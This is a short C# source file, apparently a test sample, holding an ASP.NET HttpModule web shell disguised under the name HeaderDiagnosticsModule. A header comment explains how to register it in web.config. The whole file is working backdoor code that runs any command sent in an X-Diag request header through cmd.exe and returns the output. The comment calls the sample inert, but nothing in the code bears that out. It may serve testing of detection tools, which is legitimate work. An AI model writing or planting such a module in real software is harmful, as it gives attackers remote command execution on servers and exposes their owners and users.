// Test sample (inert): an HttpModule planted in App_Code. Once registered in web.config
// (<modules><add name="Diag" type="HeaderDiagnosticsModule"/></modules>) it runs on every request:
// a request carrying the X-Diag header has the header's text run by cmd.exe, the output sent back.
using System;
using System.Diagnostics;
using System.Web;

public class HeaderDiagnosticsModule : IHttpModule
{
    public void Init(HttpApplication app)
    {
        app.BeginRequest += new EventHandler(OnBeginRequest);
    }

    private void OnBeginRequest(object sender, EventArgs e)
    {
        HttpApplication app = (HttpApplication)sender;
        string cmd = app.Context.Request.Headers["X-Diag"];
        if (string.IsNullOrEmpty(cmd))
        {
            return;
        }
        ProcessStartInfo psi = new ProcessStartInfo();
        psi.FileName = "cmd.exe";
        psi.Arguments = "/c " + cmd;
        psi.UseShellExecute = false;
        psi.RedirectStandardOutput = true;
        psi.CreateNoWindow = true;
        Process p = Process.Start(psi);
        string output = p.StandardOutput.ReadToEnd();
        p.WaitForExit();
        app.Context.Response.Write(output);
        app.CompleteRequest();
    }

    public void Dispose()
    {
    }
}
